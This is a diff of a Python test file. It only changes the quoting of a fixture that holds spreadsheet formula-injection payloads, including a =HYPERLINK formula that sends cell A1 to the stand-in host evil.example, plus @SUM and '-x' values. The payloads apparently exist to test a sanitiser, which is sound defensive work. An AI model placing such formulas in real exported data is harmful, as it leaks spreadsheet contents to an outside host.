@@ -10,7 +10,7 @@ import pytest
 
 from dprk_ru.core.text import FORMULA_STARTS, inert
 
-EVIL = '''name = "=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"click\\")"
+EVIL = """name = "=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"click\\")"
 [[contingents]]
 name = "@SUM(1)"
 troops = "1000 to 2000"
@@ -19,7 +19,7 @@ name = "-x"
 troops = 5
 killed = 1
 death_payment_usd = 1000
-'''
+"""
 
 
 @pytest.mark.parametrize(
